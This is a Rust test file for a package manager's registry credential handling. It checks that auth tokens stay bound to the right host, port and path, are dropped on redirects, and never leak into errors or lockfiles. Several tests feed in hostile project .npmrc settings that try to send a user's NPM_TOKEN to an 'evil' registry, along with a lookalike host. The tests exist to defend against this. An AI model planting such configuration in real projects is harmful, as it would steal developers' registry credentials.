//! Credentials go where they belong and nowhere else.

use crate::support::{Fault, Registry, TestEnv};

fn private() -> Registry {
    Registry::below("/npm/private/").token("hush-hush").package("@s/a", "1.0.0", |p| p.dep("b", "1")).package("b", "1.0.0", |p| p)
}

fn authorised(registry: &Registry) -> usize {
    registry.requests().iter().filter(|request| request.header("authorization").is_some()).count()
}

#[test]
fn a_token_goes_to_its_registry() {
    let registry = private();
    let env = TestEnv::new();
    env.user_npmrc(&format!("registry={}\n{}:_authToken=hush-hush\n", registry.url(), registry.nerf_dart()));
    env.depends_on(&[("@s/a", "1")]);
    let said = env.install().success();
    assert_eq!(authorised(&registry), 4);
    assert!(!said.text().contains("hush-hush") && !env.read("deka.lock").contains("hush-hush"));
}

#[test]
fn each_kind_of_credentials_is_sent_as_the_registry_wants_it() {
    for (keys, header) in [
        (&["_authToken=tok"][..], "Bearer tok"),
        (&["_auth=dXNlcjpwYXNz"], "Basic dXNlcjpwYXNz"),
        (&["username=user", "_password=cGFzcw=="], "Basic dXNlcjpwYXNz"),
        (&["_authToken=${MY_TOKEN}"], "Bearer from-env"),
    ] {
        let registry = Registry::new().package("a", "1.0.0", |p| p);
        let env = TestEnv::new();
        let keys: String = keys.iter().map(|key| format!("{}:{key}\n", registry.nerf_dart())).collect();
        env.user_npmrc(&format!("registry={}\n{keys}", registry.url()));
        env.depends_on(&[("a", "1")]);
        env.prepare(["install"]).env("MY_TOKEN", "from-env").run().success();
        assert_eq!(registry.asked().len(), 2);
        for request in registry.requests() {
            assert_eq!(request.header("authorization"), Some(header), "{keys}: {}", request.path);
        }
    }
}

#[test]
fn a_token_is_bound_to_host_port_and_path() {
    let registry = private();
    let port = registry.nerf_dart().split([':', '/']).nth(3).unwrap().to_owned();
    for foreign in [
        format!("//127.0.0.1:{port}/npm/priv"),
        format!("//127.0.0.1:{port}/npm/private2/"),
        format!("//127.0.0.1:{port}/npm/private/deeper/"),
        "//127.0.0.1:81/npm/private/".to_owned(),
        "//127.0.0.1/npm/private/".to_owned(),
        format!("//127.0.0.1.evil.test:{port}/"),
        format!("//localhost:{port}/"),
    ] {
        let env = TestEnv::new();
        env.user_npmrc(&format!("registry={}\n{foreign}:_authToken=hush-hush\n", registry.url()));
        env.depends_on(&[("b", "1")]);
        registry.forget();
        let said = env.install().failure(40).says("401");
        assert_eq!(authorised(&registry), 0, "{foreign}: {}", said.report());
        assert!(said.stderr.contains("DEKA_E_AUTH"), "{}", said.report());
    }
    for own in [format!("//127.0.0.1:{port}/"), format!("//127.0.0.1:{port}/npm/"), format!("//127.0.0.1:{port}/npm/private")] {
        let env = TestEnv::new();
        env.user_npmrc(&format!("registry={}\n{own}:_authToken=hush-hush\n", registry.url()));
        env.depends_on(&[("b", "1")]);
        env.install().success();
    }
}

#[test]
fn a_redirect_to_another_place_leaves_the_token_behind() {
    let registry = private();
    let elsewhere = Registry::new().package("b", "1.0.0", |p| p);
    registry.fault("/npm/private/b/-/*", Fault::Redirect(elsewhere.tarball_url("b", "1.0.0")));
    registry.fault("/npm/private/b", Fault::Redirect(format!("{}b", elsewhere.url())));
    let env = TestEnv::new();
    env.user_npmrc(&format!("registry={}\n{}:_authToken=hush-hush\n", registry.url(), registry.nerf_dart()));
    env.depends_on(&[("b", "1")]);
    env.install().success();
    assert!(!elsewhere.asked().is_empty());
    assert_eq!(authorised(&elsewhere), 0);
}

#[test]
fn a_tarball_elsewhere_gets_no_token() {
    let elsewhere = Registry::new().package("b", "1.0.0", |p| p);
    let url = elsewhere.tarball_url("b", "1.0.0");
    let registry = Registry::new().token("hush-hush").package("b", "1.0.0", |p| p.tarball_url(&url));
    let env = TestEnv::new();
    env.user_npmrc(&format!("registry={}\n{}:_authToken=hush-hush\n", registry.url(), registry.nerf_dart()));
    env.depends_on(&[("b", "1")]);
    env.install().success();
    assert_eq!((authorised(&elsewhere), elsewhere.asked().len()), (0, 1));
}

#[test]
fn scopes_have_registries_of_their_own() {
    let public = Registry::new().package("x", "1.0.0", |p| p.dep("@s/a", "1")).package("b", "1.0.0", |p| p);
    let private = private();
    let env = TestEnv::new();
    env.user_npmrc(&format!("registry={}\n{}:_authToken=hush-hush\n", public.url(), private.nerf_dart()));
    env.write(".npmrc", format!("@s:registry={}\n", private.url())).depends_on(&[("x", "1")]);
    env.install().success().line("3 packages installed [TIME]");
    assert_eq!((public.count("/@s/a"), authorised(&public), authorised(&private)), (0, 0, 2));
    let lockfile = env.read("deka.lock");
    assert!(!lockfile.contains("127.0.0.1"), "{lockfile}");
}

#[test]
fn a_project_cannot_send_the_users_token_elsewhere() {
    let evil = Registry::new().package("a", "1.0.0", |p| p);
    let env = TestEnv::new();
    env.user_npmrc("//example.test/:_authToken=hush-hush\n");
    for npmrc in [
        format!("registry={}${{NPM_TOKEN}}/\n", evil.url()),
        format!("registry={}\n{}:_authToken=${{NPM_TOKEN}}\n", evil.url(), evil.nerf_dart()),
        format!("registry={}\n{}:tokenHelper=/bin/echo\n", evil.url(), evil.nerf_dart()),
        format!("registry={}\n_authToken=${{NPM_TOKEN}}\n", evil.url()),
    ] {
        env.write(".npmrc", &npmrc).depends_on(&[("a", "1")]);
        env.prepare(["install"]).env("NPM_TOKEN", "from-the-env").run().either();
        let asked = evil.requests();
        for request in &asked {
            let header = request.header("authorization").unwrap_or_default();
            assert!(!request.path.contains("from-the-env") && !header.contains("from-the-env"), "{npmrc}: {} {header}", request.path);
        }
    }
    // It may send people elsewhere, though, as long as it sends nobody's token along.
    env.write(".npmrc", format!("registry={}\n", evil.url()));
    env.deka(["install", "--force"]).success();
    assert!(!evil.asked().is_empty());
}

#[test]
fn an_unset_variable_is_said_and_not_sent() {
    let registry = Registry::new().package("a", "1.0.0", |p| p);
    let env = TestEnv::new();
    env.user_npmrc(&format!("registry={}\n{}:_authToken=${{NO_SUCH_VARIABLE}}\n", registry.url(), registry.nerf_dart()));
    env.depends_on(&[("a", "1")]);
    env.install().success().says("NO_SUCH_VARIABLE");
    assert_eq!(authorised(&registry), 0);
}

#[test]
fn errors_show_no_secrets() {
    let registry = Registry::new();
    let env = TestEnv::new();
    let with_password = registry.url().replace("http://", "http://someone:pass-word@");
    env.user_npmrc(&format!("registry={with_password}\n"));
    env.depends_on(&[("a", "1")]);
    env.install().fails().never_says("pass-word");
    env.prepare(["install"]).env("DEKA_DEBUG", "1").run().fails().never_says("pass-word");
}

#[test]
fn the_npmrc_of_a_package_is_never_read() {
    let evil = Registry::new();
    let registry = Registry::new()
        .package("a", "1.0.0", |p| p.file(".npmrc", &format!("registry={}\n", evil.url())).dep("b", "1"))
        .package("b", "1.0.0", |p| p);
    let env = TestEnv::with(&registry);
    env.write("kit/package.json", r#"{"name":"kit","version":"1.0.0","dependencies":{"b":"1"}}"#);
    env.write("kit/.npmrc", format!("registry={}\n", evil.url()));
    env.depends_on(&[("a", "1"), ("kit", "file:kit")]);
    env.install().success();
    assert_eq!(evil.asked(), [""; 0]);
}
